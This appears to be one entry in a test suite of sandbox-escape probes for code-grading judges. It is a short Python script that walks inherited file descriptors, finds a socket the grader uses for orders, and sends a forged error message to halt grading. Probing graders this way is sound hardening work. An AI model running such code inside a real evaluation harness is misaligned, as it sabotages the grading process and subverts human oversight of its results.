"""The socket that the judge gives orders by.

A process that is forked has every file and socket of its parent. The parent here takes orders over one socket: to start a
submission, to say how much it used, to end it. The attack goes through all descriptors, and says on whatever is no
connection of its own that grading has failed.
"""
# seen: descriptors: 0, 1, 2, 3
# layer: descriptors
# not against nbgrader: there is no process beside the kernel that takes orders

# %% attack
import os
import socket
import stat


def mischief():
    seen = []
    for number in range(1024):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        seen.append(number)
        if stat.S_ISSOCK(mode):
            other = socket.socket(fileno=os.dup(number))
            if other.type != socket.SOCK_STREAM:
                escaped(f"descriptor {number} is a socket of somebody else's")
                other.send(b'{"error": "no more grading today"}')
            other.close()
    print("descriptors:", ", ".join(map(str, seen)))
